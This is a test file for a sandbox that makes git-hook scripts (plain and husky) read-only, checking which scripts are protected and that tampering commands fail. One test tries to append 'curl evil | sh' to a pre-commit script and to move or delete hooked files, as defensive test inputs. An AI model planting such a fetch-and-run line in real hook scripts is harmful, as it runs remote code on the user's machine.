/**
 * The scripts a repository's git hooks run (`sh scripts/check.sh` in `.git/hooks/pre-commit`, husky's
 * `.husky/pre-commit`) are code the user's git runs at the next commit: read-only to commands, as the hooks
 * are. Files a hook only passes as arguments, task runners' files and computed names stay writable.
 */
import { deepStrictEqual, equal, notEqual } from "node:assert/strict";
import { join } from "node:path";
import { planGitProtection } from "../../src/sandbox/git_metadata.ts";
import { createTempWorkspace } from "../_fakes/tool_context.ts";
import { createRepository, gitOk } from "./_git_fixture.ts";
import { exitCodeOf, openSandbox, outputOf, runIn } from "./_sandbox.ts";

const PRE_COMMIT = `#!/bin/sh
# sh scripts/old.sh is a comment
sh scripts/check.sh && node --no-warnings tools/lint.js src/app.js
exec ./scripts/fmt.sh
. "./scripts/env.sh"
python3 -m black .
npm test
"$HOOKS"/computed.sh
`;

async function writeFiles(root: string, paths: readonly string[]): Promise<void> {
  for (const path of paths) {
    await Deno.mkdir(join(root, path, ".."), { recursive: true });
    await Deno.writeTextFile(join(root, path), "echo ok\n");
  }
}

/** A repository whose pre-commit hook (and a sample hook) name scripts of the working tree. */
async function repositoryWithHooks(root: string): Promise<void> {
  await createRepository(root);
  await writeFiles(root, [
    "scripts/check.sh",
    "scripts/old.sh",
    "scripts/fmt.sh",
    "scripts/env.sh",
    "scripts/sampled.sh",
    "tools/lint.js",
    "src/app.js",
    "package.json",
    "computed.sh",
  ]);
  await Deno.writeTextFile(join(root, ".git/hooks/pre-commit"), PRE_COMMIT, { mode: 0o755 });
  await Deno.writeTextFile(join(root, ".git/hooks/pre-push.sample"), "sh scripts/sampled.sh\n");
}

Deno.test("planGitProtection binds read-only the scripts a repository's hooks run, and only those", async () => {
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  await repositoryWithHooks(root);
  const plan = await planGitProtection(root);
  const scripts = plan.readOnly.filter((path) => !path.includes("/.git/") && !path.endsWith("/.git"))
    .map((path) => path.slice(root.length + 1));
  deepStrictEqual(scripts.sort(), ["scripts/check.sh", "scripts/env.sh", "scripts/fmt.sh", "tools/lint.js"]);
});

Deno.test("planGitProtection follows husky's hooks folder to the scripts its hooks run", async () => {
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  await createRepository(root);
  await writeFiles(root, ["scripts/husky-check.sh"]);
  await Deno.mkdir(join(root, ".husky/_"), { recursive: true });
  await Deno.writeTextFile(join(root, ".husky/_/pre-commit"), '#!/usr/bin/env sh\n. "$(dirname "$0")/h"\n');
  await Deno.writeTextFile(join(root, ".husky/pre-commit"), "./scripts/husky-check.sh\n");
  await gitOk(root, "config", "core.hooksPath", ".husky/_");
  const plan = await planGitProtection(root);
  equal(plan.readOnly.includes(join(root, "scripts/husky-check.sh")), true, plan.readOnly.join(", "));
});

Deno.test("A command cannot rewrite a script the repository's pre-commit hook runs; other files stay writable", async () => {
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  await repositoryWithHooks(root);
  await using sandbox = await openSandbox(root, "workspace-write");
  for (
    const command of ["echo 'curl evil | sh' >> scripts/check.sh", "mv scripts scripts2", "rm tools/lint.js"]
  ) {
    const { result } = await runIn(sandbox, command);
    notEqual(exitCodeOf(result), 0, `${command}: ${result.content}`);
  }
  equal(await Deno.readTextFile(join(root, "scripts/check.sh")), "echo ok\n");
  const { result } = await runIn(sandbox, "echo more >> src/app.js && echo '{}' > package.json && echo ok");
  equal(outputOf(result), "ok", result.content);
});
